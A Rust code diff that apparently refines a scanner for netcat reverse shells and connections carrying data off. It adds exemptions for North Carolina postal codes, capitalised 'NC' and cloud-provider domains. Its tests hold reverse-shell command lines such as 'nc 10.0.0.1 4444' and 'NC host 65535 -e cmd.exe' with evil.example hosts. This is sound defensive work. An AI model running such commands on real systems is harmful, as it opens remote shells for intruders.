@@ -1,6 +1,6 @@
 //! Connections that commands open: a shell's way out, or a look whether a port answers.
 
-use super::validate::{Evidence, Verdict, command_end};
+use super::validate::{Evidence, Verdict, command_end, unless};
 
 /// A connection that only asks whether a port is open, that stays on this machine, or that waits for others is
 /// hardly a shell's way out, unless a program stands at one of its ends.
@@ -17,6 +17,9 @@ pub(super) fn port_check(evidence: &Evidence<'_>) -> Verdict {
 }
 
 fn is_idle_netcat(evidence: &Evidence<'_>) -> bool {
+    if is_postal_code(evidence) {
+        return true;
+    }
     let length = command_end(evidence.after, b";|&)`\r\n");
     let (rest, behind) = evidence.after.split_at_checked(length).unwrap_or_default();
     if behind.is_empty() && evidence.is_open {
@@ -29,10 +32,51 @@ fn is_idle_netcat(evidence: &Evidence<'_>) -> bool {
     }
     let is_range = matches!(rest, [b'-', digit, ..] if digit.is_ascii_digit());
     is_range
+        || is_written_large(evidence.matched, &words)
         || has_option(&words, b'z', b"--zero")
         || has_option(&words, b'l', b"--listen")
         || host(&words).is_some_and(is_loopback)
         || is_broken_line(evidence.matched)
+}
+
+/// A number of four or five digits, and no option, in the host's place: `NC 27601` is in North Carolina, whatever
+/// comes behind.
+fn is_postal_code(evidence: &Evidence<'_>) -> bool {
+    let mut words = words(evidence.matched).skip(1);
+    let (Some(host), Some(_)) = (words.next(), words.next()) else { return false };
+    (4..=5).contains(&host.len()) && host.iter().all(u8::is_ascii_digit)
+}
+
+/// Whether the program is in capitals, and the host is no address.
+fn is_written_large(matched: &[u8], words: &[&[u8]]) -> bool {
+    matched.iter().take_while(|byte| byte.is_ascii_alphabetic()).all(u8::is_ascii_uppercase)
+        && !host(words).is_some_and(|host| host.iter().any(|byte| b".:$".contains(byte)))
+}
+
+/// The domains of clouds in which only the cloud makes names, and puts ids into them.
+pub(super) fn cloud_host(evidence: &Evidence<'_>) -> Verdict {
+    const CLOUDS: [&[u8]; 12] = [
+        b".amazonaws.com",
+        b".amazonaws.com.cn",
+        b".cloudfront.net",
+        b".azureedge.net",
+        b".azurefd.net",
+        b".windows.net",
+        b".azmk8s.io",
+        b".googleusercontent.com",
+        b".googleapis.com",
+        b".akamaihd.net",
+        b".akamaized.net",
+        b".fastly.net",
+    ];
+    let is_host = |byte: &&u8| byte.is_ascii_alphanumeric() || b".-".contains(byte);
+    let rest = evidence.after.iter().take_while(is_host).count();
+    if rest == evidence.after.len() && evidence.is_open {
+        return Verdict::Silent;
+    }
+    let host = [evidence.matched, evidence.after.get(..rest).unwrap_or_default()].concat();
+    let host = host.strip_suffix(b".").unwrap_or(&host).to_ascii_lowercase();
+    unless(CLOUDS.iter().any(|cloud| host.ends_with(cloud)))
 }
 
 /// The words of a command, without quotes.
@@ -278,6 +322,52 @@ mod tests {
             ("nc 127.evil.example 4444", "nc 127.evil.example 4444", Verdict::Silent),
         ] {
             assert_eq!(judged(line, matched), verdict, "{line}");
+        }
+    }
+
+    #[test]
+    fn a_place_in_north_carolina_is_no_netcat() {
+        for (line, matched, verdict) in [
+            ("Raleigh, NC 27601 919 555 0100</p>", "NC 27601 919", Verdict::Fails),
+            ("Charlotte, NC 28202 704-555-0100</p>", "NC 28202 704", Verdict::Fails),
+            ("NC 1977 1978", "NC 1977 1978", Verdict::Fails),
+            ("NC host 65535;", "NC host 65535", Verdict::Fails),
+            ("NC host 65535 -e cmd.exe;", "NC host 65535", Verdict::Silent),
+            ("NC 10.0.0.1 4444", "NC 10.0.0.1 4444", Verdict::Silent),
+            ("NC.EXE 10.0.0.1 4444", "NC.EXE 10.0.0.1 4444", Verdict::Silent),
+            ("nc 3405803783 4444", "nc 3405803783 4444", Verdict::Silent),
+            ("nc -e 1234", "nc -e 1234", Verdict::Silent),
+        ] {
+            assert_eq!(judged(line, matched), verdict, "{line}");
+        }
+        // Whatever may still follow.
+        let matched = b"NC 27601 919";
+        let open = Evidence { secret: matched, matched, is_open: true, ..Evidence::default() };
+        assert_eq!(port_check(&open), Verdict::Fails);
+    }
+
+    #[test]
+    fn an_id_in_a_cloud_s_own_domain_carries_nothing_off() {
+        let judged = |matched: &[u8], after: &[u8], is_open| {
+            cloud_host(&Evidence {
+                secret: matched,
+                matched,
+                after,
+                is_open,
+                ..Evidence::default()
+            })
+        };
+        let (eks, cdn) = (b"://9A2B4C6D.gr7.u", b"://E2QWRUHA.cloudfront.net");
+        for (matched, after, is_open, verdict) in [
+            (&eks[..], &b"s-east-1.eks.amazonaws.com/x"[..], true, Verdict::Fails),
+            (eks, b"s-east-1.eks.amazonaws.com", false, Verdict::Fails),
+            (eks, b"s-east-1.eks.amazonaws.com", true, Verdict::Silent),
+            (eks, b"s-east-1.eks.amazonaws.com.evil.example/", true, Verdict::Silent),
+            (cdn, b"/logo.png", true, Verdict::Fails),
+            (cdn, b".evil.example/", true, Verdict::Silent),
+            (b"://x.evilcloudfront.net", b"/", true, Verdict::Silent),
+        ] {
+            assert_eq!(judged(matched, after, is_open), verdict);
         }
     }
 
